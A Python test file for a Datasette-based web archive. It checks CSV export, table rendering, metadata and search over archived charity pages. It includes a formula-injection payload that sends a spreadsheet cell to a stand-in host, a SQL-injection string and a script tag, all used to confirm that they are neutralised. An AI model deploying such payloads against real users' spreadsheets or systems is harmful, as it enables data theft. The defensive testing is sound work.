"""Tables and search: what an analyst works with."""

from __future__ import annotations

import csv
import io
import re

import pytest
from datasette.app import Datasette
from hypothesis import given, settings
from hypothesis import strategies as st

from archive.browse import access, cells, metadata, search
from archive.browse.sheets import Sheet
from archive.formulas import escape, unescape

# --- tables


FORMULA = '=HYPERLINK("http://elders.test/?"&A1,"klik")'


def test_what_is_downloaded_as_csv_holds_no_formula(client):
    asked = {
        "f": FORMULA,
        "_header": "off",
        "sql": """select :f, '@SUM(1)', -5, '-5.5', '-5-5', 'a "b", c' || char(13,10) || '=1'""",
    }
    for options in ({}, {"_dl": "1"}):
        text = client.get("/archive.csv", params={**asked, **options}).text
        (row,) = csv.reader(io.StringIO(text, newline=""))
        assert row == ["'" + FORMULA, "'@SUM(1)", "-5", "-5.5", "'-5-5", 'a "b", c\r\n=1']
    head, _ = csv.reader(io.StringIO(client.get("/archive.csv", params={"sql": 'select 1 as "=1+1"'}).text))
    assert head == ["'=1+1"]
    # What is no CSV says what there is.
    assert client.get("/archive.json", params={"f": FORMULA, "sql": "select :f as f", "_shape": "array"}).json() == [
        {"f": FORMULA}
    ]


def test_csv_is_otherwise_as_datasette_has_it(client):
    for table in ("capture", "resource", "page_version", "current_member", "change"):
        rows = client.get(f"/archive/{table}.json?_shape=arrays&_size=max").json()["rows"]
        _, *body = csv.reader(io.StringIO(client.get(f"/archive/{table}.csv?_stream=on").text, newline=""))
        assert body == [["" if cell is None else str(escape(cell)) for cell in row] for row in rows], table
        assert rows, table


@given(
    st.lists(st.lists(st.text(st.sampled_from("=-+@'\"\r\n,1.e \t\uff1dé")), min_size=2), min_size=1), st.integers(1, 7)
)
def test_a_sheet_takes_rows_in_any_pieces_and_loses_nothing(rows, length):
    written = io.StringIO(newline="")
    csv.writer(written).writerows(rows)
    sent, sheet = written.getvalue().encode(), Sheet()
    pieces = [sent[at : at + length] for at in range(0, len(sent), length)]
    read = csv.reader(io.StringIO((b"".join(map(sheet.feed, pieces)) + sheet.end()).decode(), newline=""))
    for row, expected in zip(read, rows, strict=True):
        assert [unescape(cell) for cell in row] == expected
        assert all(cell == escape(unescape(cell)) or re.fullmatch(r"[-+]?[0-9.]+(e[-+]?[0-9]+)?", cell) for cell in row)


def test_cells_show_logos_badges_times_and_ways_to_the_capture(client, built):
    html = client.get("/archive/current_sponsor").text
    assert f'<img src="{built.path("Plan Vooruit 2")}/thumbnail" alt="logo of Plan Vooruit"' in html
    assert '<span class="bw-badge bw-good">current</span>' in html
    assert re.search(r'<time datetime="2018-05-01T12:00:01Z"[^>]*>2018-05-01 ', html)
    assert re.search(r'href="/-/capture/row/\d+">capture</a>', html)
    assert "/images/215/1002.jpg (110 x 80, image/jpeg)</span>" in html
    html = client.get("/archive/logo").text
    assert f'<img src="{built.path("Plan Vooruit 2")}/thumbnail"' in html
    html = client.get("/archive/capture").text
    assert f'<a class="bw-capture" href="{built.path("home")}"' in html
    assert '<span class="bw-badge bw-bad">404</span>' in html
    html = client.get("/archive/current_sponsors").text
    assert f'<img src="{built.path("Plan Vooruit 2")}/thumbnail" alt="logo of Plan Vooruit"' in html


def test_what_columns_are_stands_above_a_table_as_markup(client):
    html = client.get("/archive/capture").text
    assert (
        '<div class="bw-columns" tabindex="0" role="region" aria-label="Columns"><dl class="column-descriptions">'
        in html
    )
    for tag in ("div", "dl", "dt", "select", "input"):
        assert f"&lt;{tag}" not in html, tag


def test_foreign_keys_carry_names(client):
    html = client.get("/archive/presence").text
    assert ">Wilde Ganzen</a>" in html
    assert ">Netwerk Betere Zorg</a>" in html


def test_digests_and_ids_stand_last(client, db):
    for table in ("capture", "presence", "payload", "fact"):
        html = client.get(f"/archive/{table}").text
        shown = re.findall(r'<th scope="col" class="[^"]*" data-column="([^"]*)"', html)
        columns = {row[1] for row in db.execute(f"PRAGMA table_info({table})")}
        assert set(shown) == columns
        assert shown[-1] in {"id", "digest", "warc_length", "extra", "gone_capture_id", "page_version_id"} | {
            name for name in shown if name.endswith("_capture_id")
        }, table
        assert shown.index("id") > len(shown) / 3
    row = client.get("/archive/payload").text.split("<tbody>")[1]
    cells_shown = re.findall(r'data-label="([^"]*)">(.*?)</td>', row, re.DOTALL)
    assert all("sha256:" in value for name, value in cells_shown if name == "digest")


@pytest.mark.parametrize("kind", ["client", "plain"])
def test_every_table_is_described_column_by_column(request, kind, db):
    client = request.getfixturevalue(kind)
    described = client.get("/-/metadata.json").json()["databases"]["archive"]["tables"]
    for table, columns in access.columns_by_table(db).items():
        about = described[table]
        if about.get("hidden"):
            assert table.startswith(("_", "sqlite_")) or "_fts_" in table or "name_trigram_" in table, table
            continue
        assert about["description"], table
        missing = set(columns) - set(about["columns"]) - {"page_version_fts", "name_trigram", "rank"}
        assert not missing - {"alt", "chair", "chair_since", "compound"}, (table, missing)
        for facet in about.get("facets", ()):
            assert facet in columns, (table, facet)
        for key in ("sort_desc", "label_column"):
            assert about.get(key, columns[0]) in columns, (table, key)
        assert client.get(f"/archive/{table}").status_code == 200, table


def test_no_facet_or_section_is_made_of_peoples_names(client):
    for table, about in client.get("/-/metadata.json").json()["databases"]["archive"]["tables"].items():
        assert not {"name", "value", "subject", "raw"} & set(about.get("facets", ())), table


def test_cells_are_cut_and_facets_are_not_guessed(client, plain):
    settings = client.get("/-/settings.json").json()
    assert settings["suggest_facets"] is False
    assert settings["truncate_cells_html"] == 200


# --- search


def test_search_finds_words_prefixes_phrases_and_names(client, built):
    html = client.get("/-/search", params={"q": "pleegz"}).text
    assert "<mark>pleegzorg</mark>" in html
    assert built.path("home") in html
    assert "2 versions of this page" in html
    assert "<mark>zonder thuis</mark>" in client.get("/-/search", params={"q": '"zonder thuis"'}).text
    assert "No page says that" in client.get("/-/search", params={"q": '"thuis zonder"'}).text
    html = client.get("/-/search", params={"q": "postzeg"}).text  # inside a compound word
    assert ">Stichting Kinderpostzegels</a>" in html


@pytest.mark.parametrize("text", ["zo'n", "zo’n", '"', '""', "*", "-", "a AND", "NEAR(", "title:x", "^x", "{a b}:c", "(", "\0", "é*",
                                  "x" * 1000, '"a" "b', "' OR 1=1 --", "\ud83d", "AND OR NOT", "+", "a+b", "\x02\x03"])  # fmt: skip
def test_odd_input_is_never_an_error(client, text):
    answer = client.get("/-/search", params={"q": text.encode(errors="replace")})
    assert answer.status_code == 200


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60) | st.text(alphabet="\"*()^:-+ANDORNEt é'{}", max_size=30))
def test_no_text_is_a_syntax_error(db, text):
    text = text.encode(errors="replace").decode()
    db.execute(
        "SELECT count(*) FROM page_version_fts WHERE page_version_fts MATCH match_expression(?)", [text]
    ).fetchone()


def test_marks_are_ours_and_all_else_is_escaped():
    assert search.marked("<b>\x02x\x03&") == "&lt;b&gt;<mark>x</mark>&amp;"


def test_badges_say_their_word():
    for value in (200, "301", 503, "current", "ended", "<script>"):
        badge = str(cells.badge(value))
        assert "<script>" not in badge
        assert badge.endswith("</span>")
    assert cells.badge("<b>").striptags() == "<b>" or "&lt;b&gt;" in cells.badge("<b>")


def test_metadata_is_fresh_each_time(built):
    """Datasette writes into what it is given."""
    datasette = Datasette([str(built.archive.database)])
    first = metadata.metadata(datasette, "databases")
    first["databases"]["archive"]["tables"]["capture"]["facets"].append("x")
    first["databases"]["archive"]["tables"]["capture"]["columns"]["x"] = "x"
    again = metadata.metadata(datasette, "databases")["databases"]["archive"]["tables"]["capture"]
    assert "x" not in again["facets"]
    assert "x" not in again["columns"]
